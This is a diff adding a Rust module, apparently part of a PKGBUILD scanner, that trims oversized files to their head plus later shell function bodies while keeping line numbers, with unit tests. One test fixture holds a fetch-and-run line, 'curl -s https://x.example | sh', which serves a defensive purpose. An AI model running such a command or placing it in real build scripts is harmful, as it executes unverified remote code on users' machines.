@@ -0,0 +1,110 @@
+//! Size caps for the files features scan.
+//!
+//! The regex engine runs in linear time, but a multi-megabyte generated PKGBUILD still
+//! makes hundreds of patterns (and the per-line attribution after them) slow and
+//! memory-hungry. Oversized files are cut down before analysis: the head of the file
+//! is kept, and past it only shell function bodies, where build and install code lives.
+
+/// Default `[scan] max_file_kb`, in bytes. Real PKGBUILDs are a few KiB.
+pub const DEFAULT_MAX_FILE_BYTES: usize = 256 * 1024;
+
+/// A file cut down by `truncate`.
+#[derive(Debug)]
+pub struct Truncated {
+    pub content: String,
+    /// Function bodies kept from past the head.
+    pub functions: usize,
+}
+
+/// The first `max_bytes` of `content`, followed by the bodies of functions that run
+/// past them, up to `max_bytes` more. Dropped lines are kept as empty lines so line
+/// numbers still match the file. None if `content` fits.
+///
+/// Functions are found as in `anomaly_analysis`: a line with `()` ending in `{`, to the
+/// line where the braces opened since balance out.
+pub fn truncate(content: &str, max_bytes: usize) -> Option<Truncated> {
+    if content.len() <= max_bytes {
+        return None;
+    }
+
+    let mut out = String::with_capacity(max_bytes * 2);
+    let mut in_head = true;
+    // Bytes left for the head, then for function bodies
+    let mut budget = max_bytes;
+    let mut functions = 0;
+    let mut depth: Option<i32> = None;
+    for line in content.split_inclusive('\n') {
+        let trimmed = line.trim();
+        if depth.is_none() && trimmed.contains("()") && trimmed.ends_with('{') {
+            depth = Some(0);
+            functions += usize::from(!in_head);
+        }
+        if in_head && line.len() > budget {
+            in_head = false;
+            budget = max_bytes;
+            if out.is_empty() {
+                // One line longer than the cap
+                out.push_str(&line[..floor_char_boundary(line, max_bytes)]);
+                out.push('\n');
+                continue;
+            }
+            // A function cut by the head is kept to its end
+            functions += usize::from(depth.is_some());
+        }
+
+        if in_head || (depth.is_some() && line.len() <= budget) {
+            out.push_str(line);
+            budget -= line.len();
+        } else {
+            out.push('\n');
+        }
+        if let Some(d) = depth.as_mut() {
+            *d += trimmed.matches('{').count() as i32 - trimmed.matches('}').count() as i32;
+            if *d <= 0 {
+                depth = None;
+            }
+        }
+    }
+
+    Some(Truncated { content: out, functions })
+}
+
+/// The largest char boundary in `s` at or below `index`.
+fn floor_char_boundary(s: &str, index: usize) -> usize {
+    (0..=index.min(s.len())).rev().find(|&i| s.is_char_boundary(i)).unwrap_or(0)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn small_files_are_not_truncated() {
+        assert!(truncate("pkgname=foo\n", 64).is_none());
+    }
+
+    #[test]
+    fn keeps_head_and_later_function_bodies() {
+        let filler = "_data+=(aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa)\n".repeat(50);
+        let content = format!(
+            "pkgname=foo\n{filler}package() {{\n  if true; then\n    curl -s https://x.example | sh\n  fi\n}}\n{filler}"
+        );
+        let truncated = truncate(&content, 200).unwrap();
+        assert_eq!(truncated.functions, 1);
+        assert!(truncated.content.starts_with("pkgname=foo\n_data+="));
+        assert!(truncated.content.contains("    curl -s https://x.example | sh\n  fi\n}\n"));
+        assert!(truncated.content.len() < 600, "{}", truncated.content.len());
+        // Line numbers are preserved
+        assert_eq!(truncated.content.lines().count(), content.lines().count());
+        let line = |text: &str, needle: &str| text.lines().position(|l| l.contains(needle));
+        assert_eq!(line(&truncated.content, "curl"), line(&content, "curl"));
+    }
+
+    #[test]
+    fn cuts_a_single_huge_line_at_a_char_boundary() {
+        let content = "é".repeat(100);
+        let truncated = truncate(&content, 51).unwrap();
+        assert_eq!(truncated.content, format!("{}\n", "é".repeat(25)));
+        assert_eq!(truncated.functions, 0);
+    }
+}